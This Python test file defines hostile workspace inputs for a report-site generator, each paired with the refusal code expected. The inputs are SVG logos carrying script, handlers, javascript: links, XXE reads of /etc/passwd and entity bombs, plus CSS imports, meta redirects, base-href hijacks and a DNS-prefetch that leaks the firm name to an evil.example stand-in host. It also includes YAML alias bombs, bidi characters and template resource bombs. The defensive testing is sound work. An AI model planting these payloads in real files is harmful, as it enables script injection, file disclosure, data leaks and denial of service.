"""Attacks on a whole workspace, each in one of its own: logos, settings, templates, styles."""

from typing import Final

from tests.attacks.case import Case, Link, Pipe, Put
from tests.attacks.notes import EVIL
from tests.attacks.templates import ENDLESS

HUGE: Final = '{{ ("y" * 3000000000)|length }}'
_LOGOS: Final = "logos that are not what they say"
_SVG: Final = "<svg xmlns='http://www.w3.org/2000/svg' xmlns:xlink='http://www.w3.org/1999/xlink' width='9' height='9'"


def _logo(id: str, content: Put, name: str = "logo.svg", refused: str = "E713 roireport.yaml:1") -> Case:
    settings = f"firm: {{name: Firm, logo: brand/{name}}}\nsite: {{language: en}}\n"
    return Case(id, _LOGOS, {"roireport.yaml": settings, f"brand/{name}": content}, (refused,))


def _drawn(id: str, content: str) -> Case:
    """A drawing with a part that a logo may not have."""
    return _logo(id, content, refused="E714 brand/logo.svg:1")


def _styled(id: str, threat: str, sheet: Put, *refused: str) -> Case:
    return Case(id, threat, {"templates/styles/report.css": sheet}, tuple(refused))


def _page(id: str, layout: str, text: str, code: str) -> Case:
    """A page about all engagements that takes too much."""
    file = f"templates/layout/{layout}.html.jinja"
    settings = "firm: {name: Firm}\nsite: {language: en}\nlimits: {seconds: 3, memory: 256 MiB}\n"
    put = {"roireport.yaml": settings, file: f"<!doctype html>{text}\n"}
    return Case(id, "layout bombs", put, (f"{code} {file}:1",))


def _framed(id: str, line: str, code: str) -> Case:
    """A frame of all pages that holds a line; the policy of the site does not restrain what it does."""
    frame = f"<!doctype html>\n<html><head>\n{line}\n</head><body>{{% block content %}}{{% endblock %}}</body></html>"
    file = "templates/layout/page.html.jinja"
    return Case(id, "templates that lead elsewhere", {file: frame}, (f"{code} {file}:3",))


def _set(id: str, threat: str, settings: Put, refused: str) -> Case:
    return Case(id, threat, {"roireport.yaml": settings}, (refused,))


def _alone(id: str, file: str, text: str) -> Case:
    """A hidden character in the first line of a workspace's own templates."""
    threat = "control characters, lone surrogates, bidi overrides"
    return Case(id, threat, {f"templates/{file}": text}, (f"E105 templates/{file}:1",))


LOGOS: Final = (
    _drawn("a-logo-with-a-script", f"{_SVG}><script>alert(1)</script></svg>"),
    _drawn("a-logo-with-a-handler", f"{_SVG} onload='alert(1)'/>"),
    _drawn("a-logo-with-a-link-that-runs", f"{_SVG}><a xlink:href='javascript:alert(1)'/></svg>"),
    _drawn("a-logo-that-becomes-a-link", f"{_SVG}><animate attributeName='href' values='javascript:alert(1)'/></svg>"),
    _drawn("a-logo-with-a-picture-from-outside", f"{_SVG}><image href='{EVIL}/a.png' width='9' height='9'/></svg>"),
    _drawn("a-logo-with-a-picture-inside", f"{_SVG}><image href='data:image/png;base64,iVBORw0KGgo='/></svg>"),
    _drawn("a-logo-with-a-file-of-the-machine", f"{_SVG}><image xlink:href='file:///etc/passwd'/></svg>"),
    _drawn("a-logo-that-uses-another", f"{_SVG}><use href='{EVIL}/a.svg#x'/></svg>"),
    _drawn("a-logo-with-another-base", f"{_SVG} xml:base='{EVIL}/'><use href='#x'/></svg>"),
    _drawn("a-logo-with-a-sheet-from-outside", f"{_SVG}><style>@import url({EVIL}/a.css);</style></svg>"),
    _drawn("a-logo-with-a-face-from-outside", f"{_SVG}><style>@font-face{{src:url({EVIL}/a.ttf)}}</style></svg>"),
    _drawn("a-logo-with-a-set-of-pictures", f"{_SVG}><style>g{{mask:image-set('{EVIL}/a.png' 1x)}}</style></svg>"),
    _drawn("a-logo-with-a-sheet-before-it", f"<?xml-stylesheet href='{EVIL}/a.css'?>{_SVG}/>"),
    _drawn("a-logo-filled-from-outside", f"{_SVG}><rect style='fill:url({EVIL}/a.svg#x)'/></svg>"),
    _drawn("a-logo-filtered-from-outside", f"{_SVG}><rect filter='url({EVIL}/a.svg#x)'/></svg>"),
    _drawn("a-logo-with-a-pointer-from-outside", f"{_SVG}><rect cursor='url({EVIL}/a.cur)'/></svg>"),
    _drawn("a-logo-with-an-escaped-address", f"{_SVG}><rect fill='u\\72l({EVIL}/a.svg#x)'/></svg>"),
    _drawn("a-logo-with-a-page", f"{_SVG}><foreignObject><p>x</p></foreignObject></svg>"),
    _drawn("a-logo-with-a-picture-of-a-page", f"{_SVG}><x:img xmlns:x='http://www.w3.org/1999/xhtml'/></svg>"),
    _drawn("a-logo-of-laughs", f"<!DOCTYPE svg [<!ENTITY a 'ha'><!ENTITY b '&a;'>]>{_SVG}><text>&b;</text></svg>"),
    _drawn("a-logo-with-a-foreign-entity", f"<!DOCTYPE svg [<!ENTITY a SYSTEM 'file:///etc/passwd'>]>{_SVG}/>"),
    _drawn("a-logo-with-a-foreign-grammar", f"<!DOCTYPE svg SYSTEM '{EVIL}/svg.dtd'>{_SVG}/>"),
    _drawn("a-logo-too-deep", _SVG + ">" + "<g>" * 2_000 + "</g>" * 2_000 + "</svg>"),
    _logo("a-logo-in-sixteen-bits", f"{_SVG}><script/></svg>".encode("utf-16")),
    _logo("a-logo-that-is-a-page", "<html><script>alert(1)</script></html>"),
    _logo("a-logo-cut-in-two", f"{_SVG}><rect"),
    _logo("a-drawing-called-png", f"{_SVG}/>", "logo.png"),
    _logo("a-page-called-jpg", "<html></html>", "logo.jpg"),
    _logo("a-logo-by-a-link", Link("{secret}"), refused="E709 roireport.yaml:1"),
    _logo("a-logo-that-is-a-pipe", Pipe(), refused="E709 roireport.yaml:1"),
    _logo("a-logo-of-a-megabyte", f"{_SVG}/>" + " " * 1_000_000, refused="E711 roireport.yaml:1"),
    _logo("a-logo-above", f"{_SVG}/>", "../../outside/secret.svg", "E708 roireport.yaml:1"),
)
STYLES: Final = tuple(
    _styled(f"{id}-in-a-style", "external references", text.format(url=EVIL), *refused)
    for id, text, *refused in (
        ("an-import", '@import "{url}/a.css";\n', "E922 templates/styles/report.css:1"),
        ("an-import-of-a-file", "@import url(file:///etc/passwd);\n", "E922 templates/styles/report.css:1"),
        ("a-background", "p {{ background: url({url}/a.png) }}\n", "E921 templates/styles/report.css:1"),
        ("a-face", "@font-face {{ font-family: X; src: url('{url}/a.ttf') }}\n", "E921 templates/styles/report.css:1"),
        ("content", "p::before {{ content: url({url}/a.png) }}\n", "E921 templates/styles/report.css:1"),
        (
            "a-set-of-pictures",
            "p {{ background: image-set('{url}/a.png' 1x) }}\n",
            "E921 templates/styles/report.css:1",
        ),
        ("a-list-style-image", "ul {{ list-style-image: url({url}/a.png) }}\n", "E921 templates/styles/report.css:1"),
    )
)
FRAMES: Final = (
    _framed("a-redirect", f'<meta http-equiv="refresh" content="0;url={EVIL}/">', "E924"),
    _framed("a-redirect-in-capitals", f"<META CONTENT='0;{EVIL}' HTTP-EQUIV=Refresh />", "E924"),
    _framed("a-redirect-by-entities", f'<meta http-equiv="&#114;efresh" content="0;{EVIL}">', "E924"),
    _framed("a-redirect-beside-a-quote", f'<meta a"b http-equiv=refresh content="0;{EVIL}">', "E924"),
    _framed("a-redirect-without-scripts", f'<noscript><meta http-equiv="refresh" content="0;{EVIL}">', "E924"),
    _framed("a-cookie", '<meta http-equiv="Set-Cookie" content="a=b">', "E924"),
    _framed("another-base", f'<base href="{EVIL}/">', "E925"),
    _framed("another-base-after-a-comment-that-ends-at-once", f"<!--><base href={EVIL}>", "E925"),
    _framed("a-script-within", "<script>location='https://evil.example'</script>", "E926"),
    _framed("a-script-from-outside", f'<script src="{EVIL}/a.js"></script>', "E926"),
    _framed("a-script-that-is-data", '<script src="portfolio.csv"></script>', "E926"),
    _framed("a-script-that-runs-ahead", '<script type="speculationrules">{"prefetch":[]}</script>', "E926"),
    _framed("a-script-of-several-lines", "<script\n>alert(1)</script>", "E926"),
    _framed("a-name-looked-up", '<link rel="dns-prefetch" href="//{{ frame.firm }}.evil.example">', "E921"),
    _framed("a-connection-ahead", f'<link href="{EVIL}" rel="Preconnect stylesheet">', "E921"),
    _framed("a-redirect-in-an-expression", "{{ '<meta http-equiv=refresh content=0;//evil.example>'|safe }}", "E924"),
)
SETTINGS: Final = (
    _set(
        "laughs-in-the-settings", "alias and merge-key bombs", "firm: &a {name: x}\nsite: *a\n", "E120 roireport.yaml:1"
    ),
    _set("depth-in-the-settings", "depth", "firm: " + "[" * 9_000, "E125 roireport.yaml:1"),
    _set(
        "an-override-in-the-settings",
        "control characters, lone surrogates, bidi overrides",
        "firm: {name: \u202ex}\n",
        "E105 roireport.yaml:1",
    ),
    _set(
        "a-mark-in-the-settings",
        "control characters, lone surrogates, bidi overrides",
        "firm: {name: \u200fx}\n",
        "E105 roireport.yaml:1",
    ),
    _alone("a-mark-in-the-words", "words/en/common.yaml", 'takeaway: "a\\u200f"\n'),
    _alone("a-filler-in-a-template", "components/takeaway.html.jinja", "\u3164\n"),
    _alone("a-soft-hyphen-in-a-style", "styles/report.css", "/* \u00ad */\n"),
    _set("settings-by-a-link", "attachments, ../, symlinks, /proc, pipes", Link("{secret}"), "E102 roireport.yaml"),
    _set("settings-that-are-a-pipe", "attachments, ../, symlinks, /proc, pipes", Pipe(), "E102 roireport.yaml"),
    _set("an-address-that-runs", "links", "site: {base_url: 'javascript:alert(1)'}\n", "E707 roireport.yaml:1"),
    _set(
        "a-colour-that-ends-a-sheet",
        "template text",
        "brand: {primary: 'red}body{display:none'}\n",
        "E705 roireport.yaml:1",
    ),
    _styled(
        "a-style-by-a-link",
        "attachments, ../, symlinks, /proc, pipes",
        Link("{secret}"),
        "E102 templates/styles/report.css",
    ),
)
LIMITS: Final = (
    _page("an-endless-portfolio", "portfolio", ENDLESS, "E820"),
    _page("an-endless-search", "search", ENDLESS, "E820"),
    _page("a-huge-portfolio", "portfolio", HUGE, "E821"),
    _page("a-huge-method-page", "sheet", HUGE, "E821"),
    _set("memory-for-no-report", "layout bombs", "limits: {memory: 64 MiB}\n", "E740 roireport.yaml:1"),
    _set("time-for-no-report", "layout bombs", "limits: {seconds: 0}\n", "E741 roireport.yaml:1"),
    _set("time-without-end", "layout bombs", "limits: {seconds: 99999999999999}\n", "E741 roireport.yaml:1"),
)
ALONE: Final = (*LOGOS, *STYLES, *FRAMES, *SETTINGS, *LIMITS)
